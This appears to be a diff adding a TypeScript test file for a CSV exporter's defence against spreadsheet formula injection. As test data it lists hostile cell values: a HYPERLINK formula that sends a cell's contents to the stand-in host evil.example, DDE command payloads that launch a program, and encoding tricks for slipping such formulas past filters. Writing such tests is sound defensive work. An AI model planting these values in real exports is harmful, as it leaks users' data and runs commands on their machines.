@@ -1,0 +1,57 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { decodeCsvRow } from "../../src/lib/csv.ts";
+import { encodeSpreadsheetRow } from "../../src/lib/spreadsheet-csv.ts";
+
+const DEFUSED: ReadonlyArray<readonly [string, string]> = [
+  ["formula", '=HYPERLINK("http://evil.example/?"&A1,"Open")'],
+  ["command", "=cmd|' /C calc'!A0"],
+  ["plus", "+1+cmd|' /C calc'!A0"],
+  ["minus", "-2+3+cmd|' /C calc'!A0"],
+  ["at", "@SUM(1+9)*cmd|' /C calc'!A0"],
+  ["tab in front", "\t=1+1"],
+  ["carriage return in front", "\r=1+1"],
+  ["line feed in front", "\n=1+1"],
+  ["blank in front", "  =1+1"],
+  ["quote in front", '"=1+1'],
+  ["byte order mark in front", "\ufeff=1+1"],
+  ["zero width space in front", "\u200b@SUM(1)"],
+  ["full-width equals", "＝1+1"],
+  ["full-width plus", "＋1+1"],
+  ["full-width minus", "－1+1"],
+  ["full-width at", "＠SUM(1)"],
+  ["a lone minus", "-"],
+  ["a name with a hyphen in front", "-draft.docx"],
+  ["a number followed by more", "-1;2"],
+];
+
+for (const [name, cell] of DEFUSED) {
+  test(`a cell that would be computed becomes text: ${name}`, () => {
+    assert.deepEqual(decodeCsvRow(encodeSpreadsheetRow(["before", cell, "after"])), ["before", `'${cell}`, "after"]);
+  });
+}
+
+const UNTOUCHED = [
+  "",
+  "0",
+  "-12",
+  "+3.5",
+  "1e6",
+  "-.5",
+  "2026-01-01 10:00:00",
+  "Budget = plan.xlsx",
+  "a@b.example",
+  "it's",
+  "'quoted",
+  " text",
+];
+
+for (const cell of UNTOUCHED) {
+  test(`a cell that is only text or a number stays as it is: '${cell}'`, () => {
+    assert.deepEqual(decodeCsvRow(encodeSpreadsheetRow([cell, "x"])), [cell, "x"]);
+  });
+}
+
+test("a cell cannot break out of its record", () => {
+  assert.equal(encodeSpreadsheetRow(['a"\r\n=1+1', "b,=2"]), '"a""\r\n=1+1","b,=2"');
+});
